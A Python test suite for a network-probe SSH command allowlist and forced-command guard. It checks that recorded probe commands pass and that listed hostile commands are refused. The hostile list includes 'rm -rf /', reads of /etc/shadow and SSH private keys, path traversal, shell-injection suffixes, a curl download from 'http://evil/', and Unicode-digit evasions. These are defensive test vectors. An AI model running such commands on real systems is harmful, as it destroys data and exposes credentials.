"""The command allowlist shared by the SSH runner and the device-side forced command.

Every command the probes ever sent, as recorded in the sample corpus's snapshots, must pass; commands
that change a device, read outside the allowed folders or smuggle shell syntax must not, on either side.
"""

from __future__ import annotations

import gzip
import json
import shlex
from pathlib import Path

import pytest

from faultline.network import allowlist
from faultline.network.ssh_guard import decide

REPO = Path(__file__).resolve().parents[1]
SAMPLE = REPO / "data" / "sample" / "backlog"

HOSTILE = [
    ["ip", "link", "set", "eth0", "down"],
    ["ip", "route", "add", "default", "via", "10.0.0.1"],
    ["ip", "netns", "exec", "fl-r1", "sh"],
    ["nft", "flush", "ruleset"],
    ["nft", "-j", "list", "ruleset", ";", "reboot"],
    ["tc", "qdisc", "del", "dev", "eth0", "root"],
    ["iptables", "-t", "filter", "-F"],
    ["vtysh", "-c", "configure terminal"],
    ["vtysh", "-c", "show ip route json | reboot"],
    ["vtysh", "-c", "show ip route json", "-c", "write memory"],
    ["cat", "--", "/etc/shadow"],
    ["cat", "--", "/var/lab/../../etc/shadow"],
    ["tail", "-n", "10", "--", "/root/.ssh/id_ed25519"],
    ["sh", "-c", "rm -rf /"],
    ["sh", "-c", allowlist.TWO_SAMPLES, "1", "/etc/shadow"],
    ["grep", "-H", "", "/etc/shadow"],
    ["grep", "-r", "password", "/etc"],
    ["ps", "-o", "pid=", "-p", "1;reboot"],
    ["ping", "-n", "-q", "-c", "3", "-i", "0.2", "-W", "1", "10.0.0.1; reboot"],
    ["ping", "-f", "10.0.0.1"],
    ["dig", "+time=2", "+tries=1", "-t", "A", "-q", "$(reboot)"],
    ["curl", "-sS", "-o", "/tmp/x", "http://evil/"],
    ["busybox", "sh"],
    ["bash"],
    ["python3", "-c", "import os"],
    # digits of other scripts pass str.isdigit(): Arabic-Indic and fullwidth were read as numbers, a
    # superscript made int() raise inside the check (found by tests/test_allowlist_fuzz.py)
    ["ping", "-n", "-q", "-c", "\u0663", "-i", "0.2", "-W", "1", "10.0.0.1"],
    ["tail", "-n", "5\uff10", "--", "/var/lab/r1/log"],
    ["tail", "-n", "\u00b2", "--", "/var/lab/r1/log"],
    ["curl", "-sS", "-o", "/dev/null", "--proto", "=http,https", "--max-redirs", "0", "--connect-timeout", "5",
     "--max-time", "10", "-w", allowlist.HTTP_WRITE_OUT, "http://web0.local:\u0668\u0660/"],
    [],
    ["ip", "-j", "addr", "show", "\n"],
]
ROOTS = ["/var/lab", "/etc/netns"]


def _recorded_commands() -> list[list[str]]:
    """Every distinct command the sample corpus's snapshots recorded, as the device runs it."""
    seen: dict[str, list[str]] = {}
    for path in sorted(SAMPLE.glob("*/snapshot.json.gz"))[:12] + sorted(SAMPLE.glob("*/baseline.json.gz"))[:4]:
        for command in json.loads(gzip.decompress(path.read_bytes()))["commands"]:
            argv = command["argv"]
            device_argv = argv[4:] if argv[:3] == ["ip", "netns", "exec"] else argv
            seen.setdefault(shlex.join(device_argv), device_argv)
    return list(seen.values())


def test_every_recorded_probe_command_is_allowed():
    commands = _recorded_commands()
    programs = {argv[0] for argv in commands}
    # the corpus exercises nearly every probe: the allowlist must not refuse what the probes really send
    assert {"ip", "vtysh", "nft", "tc", "ss", "ps", "ping", "dig", "curl", "cat", "grep"} <= programs
    refused = {shlex.join(argv): allowlist.refusal(argv) for argv in commands if allowlist.refusal(argv)}
    assert refused == {}


@pytest.mark.parametrize("argv", HOSTILE, ids=lambda a: " ".join(a)[:40] or "empty")
def test_commands_that_change_or_escape_are_refused(argv):
    reason = allowlist.refusal(argv, ROOTS)
    assert reason is not None
    with pytest.raises(allowlist.Refused, match="refused to send"):
        allowlist.check(argv, ROOTS)


@pytest.mark.parametrize("argv", HOSTILE[:-2], ids=lambda a: " ".join(a)[:40])
def test_the_forced_command_refuses_them_too(argv):
    """The device re-splits the command line it received: the same vectors are refused there."""
    run, reason = decide(shlex.join(argv), ROOTS)
    assert run is None and reason


def test_the_forced_command_runs_what_the_probes_send_and_refuses_logins():
    run, _ = decide("vtysh --vty_socket /var/lab/r1 -c 'show ip route json'", ROOTS)
    assert run == ["vtysh", "--vty_socket", "/var/lab/r1", "-c", "show ip route json"]
    assert decide(None, ROOTS)[0] is None  # an interactive login
    assert decide("", ROOTS)[0] is None
    assert decide("cat -- '/var/lab/r1/frr.conf", ROOTS)[0] is None  # unbalanced quote: never guessed at
    # shell syntax arrives as plain words and fits no rule
    assert decide("ip -j addr show; reboot", ROOTS)[0] is None
    assert decide("ip -j addr show && reboot", ROOTS)[0] is None


def test_the_forced_command_runs_privileged_probes_through_sudo_only_when_told(tmp_path, monkeypatch):
    """On a real device the probe account is not root: `--sudo nft` makes the guard exec `sudo -n -- nft ...`."""
    import os

    from faultline.network import ssh_guard

    ran: list[list[str]] = []
    monkeypatch.setattr(os, "execvpe", lambda prog, argv, env: ran.append(argv))
    monkeypatch.setenv("SSH_ORIGINAL_COMMAND", "nft -j list ruleset")
    ssh_guard.main(["--sudo", "nft"])
    ssh_guard.main([])
    monkeypatch.setenv("SSH_ORIGINAL_COMMAND", "nft flush ruleset")
    assert ssh_guard.main(["--sudo", "nft"]) == ssh_guard.REFUSED_EXIT
    assert ran == [["sudo", "-n", "--", "nft", "-j", "list", "ruleset"], ["nft", "-j", "list", "ruleset"]]
